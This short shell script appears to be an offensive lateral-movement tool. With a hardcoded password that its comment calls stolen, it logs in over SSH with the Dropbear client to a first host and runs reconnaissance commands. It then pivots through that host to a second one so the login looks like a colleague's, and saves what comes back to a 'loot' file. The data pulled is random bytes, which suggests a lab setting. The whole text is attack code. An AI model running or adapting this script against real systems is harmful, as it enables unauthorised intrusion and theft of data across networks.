#!/bin/sh
# lateral.sh FIRST SECOND - with one stolen password into FIRST over SSH, from there into SECOND, and back with its data.
export DROPBEAR_PASSWORD=autumn2024
dbclient -y -y "deploy@$1" "id; hostname; netstat -tn" </dev/null || exit 1
# The second step is taken by FIRST: to SECOND it looks like a colleague.
dbclient -y -y "deploy@$1" "DROPBEAR_PASSWORD=$DROPBEAR_PASSWORD dbclient -y -y deploy@$2 'id; hostname; head -c 400000 /dev/urandom | base64'" \
  </dev/null >/run/mien/loot || exit 1
wc -c </run/mien/loot
